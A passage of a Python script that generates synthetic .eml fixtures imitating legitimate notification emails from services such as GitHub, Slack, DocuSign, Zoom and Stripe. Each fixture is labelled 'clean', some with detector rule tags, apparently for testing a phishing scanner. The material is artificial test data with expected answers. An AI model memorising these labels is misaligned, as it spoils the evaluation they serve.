        '</a></td></tr><tr><td style="font-size:12px;color:#616161">Install'
        ' Microsoft Teams now <a href="https://aka.ms/iosteams">iOS</a> | '
        '<a href="https://aka.ms/androidteams">Android</a><br>This email was'
        " sent from an unmonitored mailbox. Update your email preferences in"
        " Teams. Activity &gt; Settings (Gear Icon) &gt; Notifications.<br>"
        "&copy; 2026 Microsoft Corporation, One Microsoft Way, Redmond WA "
        '98052-7329<br><a href="https://go.microsoft.com/fwlink/?LinkId='
        '521839">Read our privacy policy</a></td></tr></table></body>'
        "</html>\n" % link)
    write("en-103-clean-teams-unread.eml", headers(
        "Microsoft Teams <noreply@email.teams.microsoft.com>",
        "You have 3 unread messages in Project Falcon") + alt(text, html),
        "clean")

    # GitHub: a review request with its Gmail action (JSON-LD in a
    # script), a tracking beacon and the message id hidden at the end.
    pr = "https://github.com/example/widgets/pull/57"
    text = (
        "@octocat requested your review on: example/widgets#57 Fix button "
        "alignment on narrow screens.\n\n-- \nReply to this email "
        "directly, view it on GitHub:\n%s#event-10834529\nYou are "
        "receiving this because your review was requested.\n\nMessage ID: "
        "<example/widgets/pull/57/issue_event/10834529@github.com>\n" % pr)
    html = (
        '<p></p>\n<p><a class="user-mention notranslate" data-hovercard-'
        'type="user" data-hovercard-url="/users/octocat/hovercard" href="'
        'https://github.com/octocat">@octocat</a> requested your review on: '
        '<a class="issue-link js-issue-link" data-error-text="Failed to '
        'load title" data-id="1983475" data-permission-text="Title is '
        'private" data-url="https://github.com/example/widgets/issues/57" '
        'href="%s">#57</a> Fix button alignment on narrow screens.</p>\n\n'
        '<p style="font-size:small;-webkit-text-size-adjust:none;color:'
        '#666;">&mdash;<br />Reply to this email directly, <a href="%s#'
        'event-10834529">view it on GitHub</a>, or <a href="https://github'
        '.com/notifications/unsubscribe-auth/AAB3XKQ7Z5PMRLN2QH4YV3LY2C'
        'QZVAVCNFSM6AAAAABRKXW5PKVHI2DSMVQWIX3LMV45UABCJFZXG5LFIV3GK3TUJZ'
        'XXI2LGNFRWC5DJN5XDWMJSGQ2TIMBVGI">unsubscribe</a>.<br />You are '
        "receiving this because your review was requested.<img src=\""
        "https://github.com/notifications/beacon/AAB3XKW2QO7H4T6VYF5MZ3"
        'LY2CQZVA5CNFSM6AAAAABRKXW5PKWGG33NNVSW45C7OR4XAZNRIRUXGY3VONZWS'
        '33OINXW23LFNZ2KUY3PNVWWK3TUL5UWJTUPDT2YU.gif" height="1" width='
        '"1" alt="" /><span style="color: transparent; font-size: 0; '
        "display: none; visibility: hidden; overflow: hidden; opacity: 0; "
        'width: 0; height: 0; max-width: 0; max-height: 0; mso-hide: all">'
        "Message ID: <span>&lt;example/widgets/pull/57/issue_event/10834529"
        "@github.com&gt;</span></span></p>\n<script type=\"application/ld+"
        'json">[\n{\n"@context": "http://schema.org",\n"@type": '
        '"EmailMessage",\n"potentialAction": {\n"@type": "ViewAction",\n'
        '"target": "%s#event-10834529",\n"url": "%s#event-10834529",\n'
        '"name": "View Pull Request"\n},\n"description": "View this Pull '
        'Request on GitHub",\n"publisher": {\n"@type": "Organization",\n'
        '"name": "GitHub",\n"url": "https://github.com"\n}\n}\n]</script>\n'
        % (pr, pr, pr, pr))
    write("en-104-clean-github-review.eml", headers(
        "Octo Cat <notifications@github.com>",
        "[example/widgets] Fix button alignment on narrow screens (PR #57)",
        'Reply-To: example/widgets <reply+AAB3XKR4MH2YQ7VNW5CD3LGY2CQZVEVB'
        'NHHJ6HRQLE@reply.github.com>\nList-ID: example/widgets '
        '<widgets.example.github.com>\nList-Unsubscribe: <mailto:unsub+'
        'AAB3XKR4MH2YQ7VNW@reply.github.com>, <https://github.com/'
        'notifications/unsubscribe/AAB3XKR4MH2YQ7VNW>\nX-GitHub-Reason: '
        "review_requested\n") + alt(text, html), "clean", "html.hidden_text")

    # GitLab's pipeline mail, from its mailing subdomain.
    pipe = "https://gitlab.com/example-group/api/-/pipelines/1089347712"
    text = (
        "Your pipeline has failed.\n\nProject: example-group / api ( "
        "https://gitlab.com/example-group/api )\nBranch: main ( "
        "https://gitlab.com/example-group/api/-/commits/main )\n\nCommit: "
        "4f2a9c1e ( https://gitlab.com/example-group/api/-/commit/4f2a9c1e"
        "b7d3 )\nCommit Message: Bump the TLS library\n\nCommit Author: "
        "Taro Yamada\n\nPipeline #1089347712 ( %s ) triggered by Taro "
        "Yamada\nhad 1 failed job.\n\nJob #5432198765 ( https://gitlab.com/"
        "example-group/api/-/jobs/5432198765/raw )\n\nStage: test\nName: "
        "unit\n\n-- \nYou're receiving this email because of your account "
        "on gitlab.com.\n" % pipe)
    html = (
        '<html lang="en"><head><meta content="text/html; charset=UTF-8" '
        'http-equiv="Content-Type"><title>GitLab</title><style>img{border:'
        'none;}</style></head><body style="background-color:#fafafa;margin:'
        '0;padding:0"><table class="wrapper" style="width:100%%"><tr><td '
        'class="header" style="padding:25px 0;text-align:center"><img alt='
        '"GitLab" height="50" width="55" src="https://gitlab.com/assets/'
        'mailers/gitlab_logo-2957169c8ef64c58616a1ac3f4fc626e8a35ce4eb3ed'
        '31bb0d873712f2a041a0.png"></td></tr><tr><td style="background-'
        'color:#d22f57;color:#ffffff;padding:8px;text-align:center">Your '
        'pipeline has failed.</td></tr><tr><td><table style="width:100%%">'
        '<tr><td>Project</td><td><a href="https://gitlab.com/example-group"'
        '>example-group</a> / <a href="https://gitlab.com/example-group/'
        'api">api</a></td></tr><tr><td>Branch</td><td><a href="https://'
        'gitlab.com/example-group/api/-/commits/main">main</a></td></tr>'
        '<tr><td>Commit</td><td><a href="https://gitlab.com/example-group/'
        'api/-/commit/4f2a9c1eb7d3">4f2a9c1e</a><br>Bump the TLS library'
        '</td></tr><tr><td>Commit Author</td><td><img src="https://secure'
        '.gravatar.com/avatar/0c2f4a9e1b7d3c5e8f6a?s=48&amp;d=identicon" '
        'width="24" height="24" alt=""> Taro Yamada</td></tr></table></td>'
        '</tr><tr><td style="padding:16px">Pipeline <a href="%s">'
        "#1089347712</a> triggered by Taro Yamada had 1 failed job.</td>"
        '</tr><tr><td><a href="https://gitlab.com/example-group/api/-/jobs/'
        '5432198765">unit</a> (stage: test)</td></tr><tr><td class="footer"'
        ' style="font-size:13px;color:#5c5c5c;padding:25px 0">You\'re '
        "receiving this email because of your account on gitlab.com. <a "
        'href="https://gitlab.com/-/profile/notifications">Manage all '
        "notifications</a> &middot; <a href=\"https://gitlab.com/help\">"
        "Help</a></td></tr></table></body></html>\n" % pipe)
    write("en-105-clean-gitlab-pipeline.eml", headers(
        "GitLab <gitlab@mg.gitlab.com>",
        "example-group/api | Failed pipeline for main | 4f2a9c1e",
        "X-GitLab-Project: api\nX-GitLab-Pipeline-Id: 1089347712\n"
        "List-Id: example-group/api <12345678.api.example-group.gitlab.com>\n")
        + alt(text, html), "clean")

    # Jira Cloud writes from the customer's own site under atlassian.net,
    # with store links for its app.
    issue = ("https://fabrikam.atlassian.net/browse/OPS-482?atlOrigin="
             "eyJpIjoiMDU4ZjY1YWM0NDM4NGRhYjg0ZTJkZjY3YmUyNjU3OTEiLCJwIjoi"
             "aiJ9")
    text = (
        "Jane Doe assigned this issue to you\n\nFabrikam Operations / OPS-"
        "482\nRenew the TLS certificate for the customer portal\n\n"
        "View issue: %s\n\nPriority: High\nDue date: 13/Nov/26\n\n"
        "Get Jira notifications on your phone! Download the Jira Cloud app "
        "for Android ( https://play.google.com/store/apps/details?id=com."
        "atlassian.android.jira.core&referrer=utm_source%%3DNotificationLink"
        "%%26utm_medium%%3DEmail ) or iOS ( https://apps.apple.com/app/"
        "apple-store/id1006972087?pt=696495&ct=EmailNotificationLink&mt=8 )"
        "\n\nThis message was sent by Atlassian Jira (v1001.0.0-SNAPSHOT#"
        "100241-sha1:8b3c2e1)\n" % issue)
    html = (
        '<html><head><meta name="viewport" content="width=device-width, '
        'initial-scale=1.0"></head><body style="background:#f4f5f7">'
        '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td '
        'style="padding:20px 0 5px;font-family:-apple-system,BlinkMacSystem'
        'Font,\'Segoe UI\',Roboto,sans-serif;font-size:14px;color:#172b4d">'
        '<img src="https://fabrikam.atlassian.net/secure/useravatar?size='
        'medium&amp;avatarId=10334" width="32" height="32" alt=""> <b>Jane '
        'Doe</b> assigned this issue to you</td></tr><tr><td style="'
        'background:#ffffff;padding:16px;border-radius:3px"><a href="https'
        '://fabrikam.atlassian.net/browse/OPS?atlOrigin=eyJpIjoiMDU4ZjY1YW'
        'M0NDM4NGRhYjg0ZTJkZjY3YmUyNjU3OTEiLCJwIjoiaiJ9">Fabrikam Operations'
        '</a> / <a href="%s">OPS-482</a><h2 style="font-size:20px"><a href='
        '"%s" style="color:#0052cc;text-decoration:none">Renew the TLS '
        "certificate for the customer portal</a></h2><table><tr><td>"
        "Priority:</td><td>High</td></tr><tr><td>Due date:</td><td>13/Nov/"
        '26</td></tr></table><p><a href="%s" style="background:#0052cc;'
        'color:#ffffff;padding:6px 12px;border-radius:3px;text-decoration:'
        'none">View issue</a></p></td></tr><tr><td style="font-size:12px;'
        'color:#6b778c;padding:16px 0">Get Jira notifications on your '
        'phone! Download the Jira Cloud app for <a href="https://play.'
        'google.com/store/apps/details?id=com.atlassian.android.jira.core&'
        'amp;referrer=utm_source%%3DNotificationLink%%26utm_medium%%3D'
        'Email">Android</a> or <a href="https://apps.apple.com/app/apple-'
        'store/id1006972087?pt=696495&amp;ct=EmailNotificationLink&amp;mt='
        '8">iOS</a>.<br><img src="https://fabrikam.atlassian.net/gateway/'
        'api/notification-log/beacon/OPS-482.gif" width="1" height="1" '
        'alt="">This message was sent by Atlassian Jira (v1001.0.0-'
        "SNAPSHOT#100241-sha1:8b3c2e1)</td></tr></table></body></html>\n"
        % (issue, issue, issue))
    write("en-106-clean-jira-assigned.eml", headers(
        '"Jane Doe (Jira)" <jira@fabrikam.atlassian.net>',
        "[JIRA] (OPS-482) Renew the TLS certificate for the customer "
        "portal") + alt(text, html), "clean")

    # Slack's digest of a direct message from a partner's workspace.
    text = (
        "You have a new direct message from Alice Brown in Fabrikam "
        "Partners (fabrikampartners.slack.com)\n\nAlice Brown  9:12 AM\n"
        "Slides from the kickoff: https://bit.ly/3Kq8ZxW - see you "
        "Thursday!\n\nOpen Slack: https://fabrikampartners.slack.com/"
        "messages/D04ABC123\n\nYou're receiving this email because you "
        "have email notifications turned on. Change your preferences: "
        "https://fabrikampartners.slack.com/account/notifications\n\n"
        "Slack Technologies, LLC, a Salesforce company. 415 Mission Street,"
        " 3rd Floor, San Francisco, CA 94105\n")
    html = (
        '<html><body style="margin:0;padding:0;background:#ffffff"><div '
        'style="display:none;max-height:0;overflow:hidden">Alice Brown: '
        "Slides from the kickoff</div><table width=\"100%\" cellpadding="
        '"0" cellspacing="0"><tr><td style="padding:30px 0"><img src="'
        'https://a.slack-edge.com/80588/img/slack_logo_240.png" width="120"'
        ' height="34" alt="Slack"></td></tr><tr><td style="font-family:'
        'Slack-Lato,appleLogo,sans-serif;font-size:20px;font-weight:900">'
        "You have a new direct message from Alice Brown in Fabrikam "
        "Partners</td></tr><tr><td style=\"padding:16px;border:1px solid "
        '#dddddd;border-radius:4px"><img src="https://ca.slack-edge.com/'
        'T04ABC123-U04DEF456-8f2e1c0a3b4d-48" width="36" height="36" '
        'alt=""> <b>Alice Brown</b> <span style="color:#616061">9:12 AM'
        '</span><br>Slides from the kickoff: <a href="https://bit.ly/'
        '3Kq8ZxW">https://bit.ly/3Kq8ZxW</a> - see you Thursday!</td></tr>'
        '<tr><td style="padding:24px 0"><a href="https://fabrikampartners'
        '.slack.com/messages/D04ABC123" style="background:#4a154b;color:'
        '#ffffff;padding:12px 24px;border-radius:4px;text-decoration:none;'
        'font-weight:bold">Open Slack</a></td></tr><tr><td style="font-'
        'size:12px;color:#696969">You\'re receiving this email because you '
        "have email notifications turned on. <a href=\"https://fabrikam"
        'partners.slack.com/account/notifications">Change your preferences'
        "</a>.<br>Slack Technologies, LLC, a Salesforce company. 415 "
        "Mission Street, 3rd Floor, San Francisco, CA 94105</td></tr>"
        '</table><img src="https://slack.com/beacon/e?i=eyJ0IjoibXNnIiwiZ'
        'SI6IjRhYmMifQ&amp;t=1793579400" width="1" height="1" alt="">'
        "</body></html>\n")
    write("en-107-clean-slack-message.eml", headers(
        "Slack <notification@slack.com>",
        "[Slack] New message from Alice Brown in Fabrikam Partners") +
        alt(text, html), "clean", "url.shortener")

    # DocuSign: the sender's name "via DocuSign", a deep signing link,
    # the security code, and its warning not to share the mail.
    sign = ("https://na3.docusign.net/Signing/EmailStart.aspx?a=7c1e2f90-"
            "3b4a-4d5e-8f6a-1b2c3d4e5f60&etti=24&acct=9a8b7c6d-5e4f-4a3b-"
            "2c1d-0e9f8a7b6c5d&er=2f3e4d5c-6b7a-4988-a7b6-c5d4e3f2a1b0")
    text = (
        "Alice Brown sent you a document to review and sign.\n\n"
        "REVIEW DOCUMENT: %s\n\nAlice Brown\nalice@fabrikam.com\n\n"
        "Please DocuSign: Master Services Agreement 2027.pdf\n\n"
        "Do Not Share This Email\nThis email contains a secure link to "
        "DocuSign. Please do not share this email, link, or access code "
        "with others.\n\nAlternate Signing Method\nVisit DocuSign.com, "
        "click 'Access Documents', and enter the security code:\n"
        "2F3E4D5C6B7A4988A7B6C5D4E3F2A1B02\n\nAbout DocuSign\nSign "
        "documents electronically in just minutes. It's safe, secure, and "
        "legally binding.\n\nQuestions about the Document?\nIf you need to "
        "modify the document or have questions about the details in the "
        "document, please reach out to the sender by emailing them "
        "directly.\n\nReport this email or read more about Declining to "
        "sign and Managing notifications: https://support.docusign.com/\n"
        % sign)
    html = (
        '<html><body style="padding:0;margin:0;background-color:#eaeaea">'
        '<table border="0" cellspacing="0" cellpadding="0" width="100%%" '
        'style="background-color:#eaeaea"><tr><td style="padding:24px">'
        '<img src="https://na3.docusign.net/Member/Images/email/docusign-'
        'logo.png" alt="DocuSign" width="116"></td></tr><tr><td style="'
        'background-color:#1e4ca1;color:#ffffff;padding:28px 36px;font-'
        "family:Helvetica,Arial,sans-serif;font-size:16px;text-align:"
        'center"><img src="https://na3.docusign.net/member/Images/email/'
        'docInvite-white.png" width="75" height="75" alt=""><br>Alice '
        "Brown sent you a document to review and sign.<br><br><table "
        'cellspacing="0" cellpadding="0"><tr><td style="border-radius:2px;'
        'background-color:#ffc423"><a href="%s" style="font-size:15px;'
        "color:#333333;text-decoration:none;display:block;padding:0 24px;"
        'line-height:44px"><span style="font-weight:bold">REVIEW DOCUMENT'
        '</span></a></td></tr></table></td></tr><tr><td style="padding:'
        '24px 36px;background-color:#ffffff;font-size:15px;color:#333333">'
        "<b>Alice Brown</b><br><a href=\"mailto:alice@fabrikam.com\">"
        "alice@fabrikam.com</a><br><br>Please DocuSign: Master Services "
        'Agreement 2027.pdf</td></tr><tr><td style="padding:0 24px 24px '
        '36px;background-color:#ffffff;font-size:11px;color:#666666"><b>Do '
        "Not Share This Email</b><br>This email contains a secure link to "
        "DocuSign. Please do not share this email, link, or access code "
        "with others.<br><br><b>Alternate Signing Method</b><br>Visit "
        "DocuSign.com, click 'Access Documents', and enter the security "
        "code: 2F3E4D5C6B7A4988A7B6C5D4E3F2A1B02<br><br><b>About DocuSign"
        "</b><br>Sign documents electronically in just minutes. It's safe,"
        " secure, and legally binding. Whether you're in an office, at "
        "home, on-the-go -- or even across the globe -- DocuSign provides a"
        " professional trusted solution for Digital Transaction Management"
        "&trade;.<br><br><b>Questions about the Document?</b><br>If you "
        "need to modify the document or have questions about the details "
        "in the document, please reach out to the sender by emailing them "
        'directly.<br><br><a href="https://protect.docusign.net/report-'
        'abuse?e=AUtomjpTw1kq&amp;lang=en">Report this email</a> or read '
        'more about <a href="https://support.docusign.com/s/articles/How-'
        'do-I-decline-to-sign-a-document-Signer">Declining to sign</a> and '
        '<a href="https://support.docusign.com/s/articles/How-do-I-manage-'
        'my-email-notifications">Managing notifications</a>.</td></tr>'
        "</table></body></html>\n" % sign)
    write("en-108-clean-docusign-sign.eml",
          eop_pass("docusign.net", "64.207.219.13") +
          headers('"Alice Brown via DocuSign" <dse_NA3@docusign.net>',
                  "Please DocuSign: Master Services Agreement 2027.pdf",
                  'Reply-To: "Alice Brown" <alice@fabrikam.com>\n') +
          alt(text, html), "clean")

    # Zoom's cloud recording with its passcode.
    rec = ("https://us06web.zoom.us/rec/share/Ab3dE5fG7hJ9kL1mN3pQ5rS7tU9v"
           "Wx1yZ3aB5cD7eF9g.HiJkLmNoPqRsTuVw")
    text = (
        "Hi Taro Yamada,\n\nYour cloud recording is now available.\n\n"
        "Topic: Weekly sync\nDate: Nov 2, 2026 09:00 AM Osaka, Sapporo, "
        "Tokyo\n\nClick here to view your recording: %s\nPasscode: "
        "x8#Lq2!f\n\nYou can also manage your recordings in My Recordings: "
        "https://us06web.zoom.us/recording\n\nThank you for choosing Zoom."
        "\n-The Zoom Team\n\n+1.888.799.9666\n(c)2026 Zoom Video "
        "Communications, Inc.\n55 Almaden Blvd, San Jose, CA 95113\n" % rec)
    html = (
        '<html><body style="margin:0;background:#f7f7fa"><table width="'
        '100%%" role="presentation"><tr><td align="center" style="padding:'
        '24px"><img src="https://st1.zoom.us/static/6.3.12345/image/new/'
        'ZoomLogo_112x25.png" width="112" height="25" alt="Zoom"></td></tr>'
        '<tr><td style="background:#ffffff;padding:32px;font-family:Lato,'
        'Helvetica,Arial,sans-serif;font-size:14px;color:#232333">Hi Taro '
        "Yamada,<br><br>Your cloud recording is now available.<br><br><b>"
        "Topic:</b> Weekly sync<br><b>Date:</b> Nov 2, 2026 09:00 AM "
        "Osaka, Sapporo, Tokyo<br><br>Click here to view your recording:"
        '<br><a href="%s">%s</a><br>Passcode: x8#Lq2!f<br><br>You can also '
        'manage your recordings in <a href="https://us06web.zoom.us/'
        'recording">My Recordings</a>.<br><br>Thank you for choosing Zoom.'
        "<br>-The Zoom Team</td></tr><tr><td align=\"center\" style=\""
        'font-size:12px;color:#747487;padding:24px"><a href="https://twitter'
        '.com/zoom"><img src="https://st1.zoom.us/static/6.3.12345/image/'
        'new/twitter.png" width="24" alt="Twitter"></a> <a href="https://'
        'www.linkedin.com/company/zoom-video-communications"><img src="'
        'https://st1.zoom.us/static/6.3.12345/image/new/linkedin.png" '
        'width="24" alt="LinkedIn"></a><br>+1.888.799.9666<br>&copy;2026 '
        "Zoom Video Communications, Inc.<br>55 Almaden Blvd, San Jose, CA "
        '95113<br><a href="https://zoom.us/privacy">Privacy &amp; Legal '
        "Policies</a></td></tr></table></body></html>\n" % (rec, rec))
    write("en-109-clean-zoom-recording.eml", headers(
        "Zoom <no-reply@zoom.us>",
        "Cloud Recording - Weekly sync is now available") +
        alt(text, html), "clean")

    # A Google Calendar invitation from a partner's Workspace: the
    # attendee's address in the subject, a Meet link, a dial-in number,
    # the invitation as text/calendar and as invite.ics.
    eid = ("NXBzcTJ0ZjBqM2s0bDVtNm43bzhwOXEgdGFyby55YW1hZGFAY29udG9zby5jb20"
           "&tok=MTgjYWxpY2VAZmFicmlrYW0uY29tNmQ1ZjBlOWE4YjdjNmQ1ZTRm")
    ics = (
        "BEGIN:VCALENDAR\nPRODID:-//Google Inc//Google Calendar 70.9054//EN"
        "\nVERSION:2.0\nCALSCALE:GREGORIAN\nMETHOD:REQUEST\nBEGIN:VEVENT\n"
        "DTSTART:20261110T010000Z\nDTEND:20261110T020000Z\nDTSTAMP:"
        "20261102T003000Z\nORGANIZER;CN=Alice Brown:mailto:alice@fabrikam."
        "com\nUID:5psq2tf0j3k4l5m6n7o8p9q@google.com\nATTENDEE;CUTYPE="
        "INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE\n"
        " ;CN=taro.yamada@contoso.com;X-NUM-GUESTS=0:mailto:taro.yamada@"
        "contoso.com\nX-GOOGLE-CONFERENCE:https://meet.google.com/abc-defg-"
        "hij\nSUMMARY:Contract review\nDESCRIPTION:-::~:~::~:~:~:~:~:~:~:~"
        ":~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~:~"
        "\n ::~:~::-\\nJoin with Google Meet: https://meet.google.com/abc-"
        "defg-hij\\n\\nJoin by phone\\n(US) +1 347-555-0133 PIN: 482 913 "
        "771#\\n\nLOCATION:\nSEQUENCE:0\nSTATUS:CONFIRMED\nTRANSP:OPAQUE\n"
        "END:VEVENT\nEND:VCALENDAR\n")
    text = (
        "You have been invited to the following event.\n\nContract review"
        "\nTuesday Nov 10, 2026 10am - 11am (JST)\n\nJoining info\nJoin "
        "with Google Meet\nhttps://meet.google.com/abc-defg-hij\n\nJoin by "
        "phone\n(US) +1 347-555-0133 PIN: 482 913 771#\n\nView all event "
        "details: https://calendar.google.com/calendar/event?action=VIEW&"
        "eid=%s&ctz=Asia%%2FTokyo&hl=en&es=0\n\nOrganizer\nAlice Brown\n"
        "alice@fabrikam.com\n\nGuests\nAlice Brown - organizer\n"
        "taro.yamada@contoso.com\n\nReply for taro.yamada@contoso.com\n\n"
        "Invitation from Google Calendar: https://calendar.google.com/"
        "calendar/\n\nYou are receiving this email because you are an "
        "attendee on the event. To stop receiving future updates for this "
        "event, decline this event.\n\nForwarding this invitation could "
        "allow any recipient to send a response to the organizer, be added"
        " to the guest list, invite others regardless of their own "
        "invitation status, or modify your RSVP. Learn more "
        "https://support.google.com/calendar/answer/37135#forwarding\n"
        % eid)
    resp = ("https://calendar.google.com/calendar/event?action=RESPOND&amp;"
            "eid=%s&amp;rst=%%d&amp;ctz=Asia%%%%2FTokyo&amp;hl=en&amp;es=0"
            % eid.replace("&", "&amp;"))
    html = (
        '<html><body><div itemscope itemtype="http://schema.org/'
        'EventReservation"><meta itemprop="description" content="Contract '
        'review"></div><span style="color:transparent;display:none;height:'
        '0;max-height:0;max-width:0;opacity:0;overflow:hidden;mso-hide:all;'
        'visibility:hidden;width:0">Join with Google Meet</span><table '
        'role="presentation" style="width:100%%;border:1px solid #dadce0;'
        'border-radius:8px"><tr><td style="padding:24px 32px;font-family:'
        'Google Sans,Roboto,Helvetica,Arial,sans-serif"><div style="font-'
        'size:14px;color:#3c4043">You have been invited to the following '
        'event.</div><h2 style="font-size:22px;color:#3c4043">Contract '
        "review</h2><div>Tuesday Nov 10, 2026 &#8901; 10am &ndash; 11am "
        '(Japan Standard Time - Tokyo)</div><table><tr><td><a href="https:'
        '//meet.google.com/abc-defg-hij?hs=224" style="background:#1a73e8;'
        'color:#ffffff;padding:10px 24px;border-radius:4px;text-decoration:'
        'none">Join with Google Meet</a></td><td style="color:#70757a">'
        "meet.google.com/abc-defg-hij</td></tr></table><div><b>Join by "
        "phone</b><br>(US) +1 347-555-0133<br>PIN: 482 913 771#</div><div "
        'style="padding-top:16px"><b>Organizer</b><br>Alice Brown<br><a '
        'href="mailto:alice@fabrikam.com">alice@fabrikam.com</a></div><div>'
        "<b>Guests</b><br>Alice Brown - organizer<br>taro.yamada@contoso."
        'com</div><div style="padding-top:16px"><a href="https://calendar.'
        "google.com/calendar/event?action=VIEW&amp;eid=%s&amp;ctz=Asia%%2F"
        'Tokyo&amp;hl=en&amp;es=0">View all event details</a></div><div '
        'style="padding-top:16px">Reply for taro.yamada@contoso.com <a '
        'href="%s">Yes</a> <a href="%s">No</a> <a href="%s">Maybe</a> <a '
        'href="https://calendar.google.com/calendar/event?action=VIEW&amp;'
        'eid=%s&amp;ctz=Asia%%2FTokyo&amp;hl=en&amp;es=0">More options</a>'
        '</div></td></tr><tr><td style="padding:16px 32px;font-size:12px;'
        'color:#70757a">Invitation from <a href="https://calendar.google.'
        'com/calendar/">Google Calendar</a><br><br>You are receiving this '
        "email because you are an attendee on the event. To stop receiving "
        "future updates for this event, decline this event.<br><br>"
        "Forwarding this invitation could allow any recipient to send a "
        "response to the organizer, be added to the guest list, invite "
        "others regardless of their own invitation status, or modify your "
        'RSVP. <a href="https://support.google.com/calendar/answer/37135#'
        'forwarding">Learn more</a></td></tr></table></body></html>\n'
        % (eid.replace("&", "&amp;"), resp % 1, resp % 2, resp % 3,
           eid.replace("&", "&amp;")))
    write("en-110-clean-google-calendar.eml", headers(
        "Alice Brown <alice@fabrikam.com>",
        "Invitation: Contract review @ Tue Nov 10, 2026 10am - 11am (JST) "
        "(taro.yamada@contoso.com)",
        "Sender: Google Calendar <calendar-notification@google.com>\n"
        "Reply-To: Alice Brown <alice@fabrikam.com>\n") +
        'Content-Type: multipart/mixed; boundary="mix1"\n\n--mix1\n' +
        alt(text, html).replace("\n--alt1--\n", "\n--alt1\nContent-Type: "
                                "text/calendar; charset=UTF-8; method="
                                "REQUEST\nContent-Transfer-Encoding: 7bit"
                                "\n\n" + ics + "\n--alt1--\n") +
        '\n--mix1\nContent-Type: application/ics; name="invite.ics"\n'
        'Content-Disposition: attachment; filename="invite.ics"\n'
        "Content-Transfer-Encoding: base64\n\n" + b64(ics.encode()) +
        "\n--mix1--\n", "clean")

    # A Stripe receipt in the merchant's name: an amount charged to a
    # card, and the merchant's telephone number for questions.
    text = (
        "Receipt from Tailspin Analytics\n\nReceipt #2417-3391\n\n"
        "AMOUNT PAID\n$49.00\n\nDATE PAID\nNov 2, 2026\n\nPAYMENT METHOD\n"
        "Visa - 4242\n\nSUMMARY\nTailspin Analytics Team plan (Nov 2 - Dec "
        "2, 2026)  $49.00\nAmount charged  $49.00\n\nIf you have any "
        "questions, contact us at billing@tailspin-analytics.example or call"
        " us at +1 206-555-0148.\n\nDownload receipt: https://pay.stripe."
        "com/receipts/invoices/CAcaFwoVYWNjdF8xTjRoQ2tLWjJ2b1Iy?s=em\n\n"
        "Something wrong with the email? View it in your browser: "
        "https://dashboard.stripe.com/emails/receipts/pmtrc_1Q2w3E4r\n\n"
        "You're receiving this email because you made a purchase at "
        "Tailspin Analytics, which partners with Stripe to provide invoicing"
        " and payment processing.\n")
    html = (
        '<html><head><meta name="viewport" content="width=device-width">'
        '</head><body style="background-color:#f6f9fc"><span class="'
        'preheader" style="color:transparent;display:none;height:0;max-'
        'height:0;max-width:0;opacity:0;overflow:hidden;mso-hide:all;'
        'visibility:hidden;width:0">Receipt from Tailspin Analytics '
        "$49.00 Paid November 2, 2026" + PAD + '</span><table width="100%"'
        ' style="background:#ffffff;border-radius:8px"><tr><td style="'
        'padding:32px;text-align:center"><img src="https://stripe-images.'
        's3.amazonaws.com/emails/acct_1N4hCkKZ2voR2/logo.png" width="48" '
        'height="48" alt="Tailspin Analytics"><h1 style="font-family:'
        "-apple-system,'SF Pro Display',Helvetica,sans-serif;font-size:24px"
        ';color:#32325d">Receipt from Tailspin Analytics</h1><div style="'
        'color:#8898aa">Receipt #2417-3391</div></td></tr><tr><td><table '
        'width="100%"><tr><td>AMOUNT PAID<br><b>$49.00</b></td><td>DATE '
        "PAID<br><b>Nov 2, 2026</b></td><td>PAYMENT METHOD<br><img src=\""
        'https://stripe-images.s3.amazonaws.com/emails/receipt_assets/card/'
        'visa-dark@2x.png" width="16" height="11" alt="Visa"> <b>- 4242</b>'
        "</td></tr></table></td></tr><tr><td style=\"padding:16px 32px\">"
        "<b>SUMMARY</b><table width=\"100%\"><tr><td>Tailspin Analytics "
        "Team plan (Nov 2 &ndash; Dec 2, 2026)</td><td align=\"right\">"
        "$49.00</td></tr><tr><td><b>Amount charged</b></td><td align=\""
        'right"><b>$49.00</b></td></tr></table></td></tr><tr><td style="'
        'padding:16px 32px"><a href="https://pay.stripe.com/receipts/'
        'invoices/CAcaFwoVYWNjdF8xTjRoQ2tLWjJ2b1Iy?s=em">Download receipt'
        '</a></td></tr><tr><td style="padding:16px 32px;color:#525f7f">If '
        "you have any questions, contact us at <a href=\"mailto:billing@"
        'tailspin-analytics.example">billing@tailspin-analytics.example'
        '</a> or call us at <a href="tel:+12065550148">+1 206-555-0148</a>.'
        '</td></tr><tr><td style="padding:16px 32px;font-size:12px;color:'
        "#8898aa\">Something wrong with the email? <a href=\"https://"
        'dashboard.stripe.com/emails/receipts/pmtrc_1Q2w3E4r">View it in '
        "your browser</a>.<br><br>You're receiving this email because you "
        'made a purchase at Tailspin Analytics, which partners with <a '
        'href="https://stripe.com/">Stripe</a> to provide invoicing and '
        "payment processing.</td></tr></table></body></html>\n")
    write("en-111-clean-stripe-receipt.eml", headers(
        "Tailspin Analytics <invoice+statements+acct_1N4hCkKZ2voR2@stripe"
        ".com>", "Your receipt from Tailspin Analytics #2417-3391",
        "Reply-To: billing@tailspin-analytics.example\n") +
        alt(text, html), "clean", "sender.replyto_mismatch")

    # PayPal's own receipt, authenticated, with its marketing-tracked
    # footer links on paypal-communication.com.
    text = (
        "Hello, Taro Yamada\n\nYou sent $25.00 USD to Northwind Coffee "
        "Roasters\n\nIt may take a few moments for this transaction to "
        "appear in your account.\n\nTransaction ID: 8RT52317WX1849315\n"
        "Transaction date: Nov 2, 2026\n\nDetails: https://www.paypal.com/"
        "myaccount/transactions/details/8RT52317WX1849315\n\nHelp & "
        "Contact: https://www.paypal.com/us/smarthelp/home\n\nPayPal is "
        "committed to preventing fraudulent emails. Emails from PayPal will"
        " always contain your full name. Learn to identify phishing: "
        "https://www.paypal.com/us/security/learn-about-fake-messages\n\n"
        "Please don't reply to this email. To get in touch with us, click "
        "Help & Contact.\n\nCopyright (c) 1999-2026 PayPal, Inc. All "
        "rights reserved. PayPal is located at 2211 N. First St., San Jose,"
        " CA 95131.\n\nPayPal RT000238:en_US(en-US):1.0.0:8a1c3d2e4f5b6\n")
    html = (
        '<html><body style="background:#f2f2f2"><table width="100%" '
        'style="max-width:600px;background:#ffffff"><tr><td style="padding:'
        '24px"><img src="https://www.paypalobjects.com/digitalassets/c/'
        'system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-'
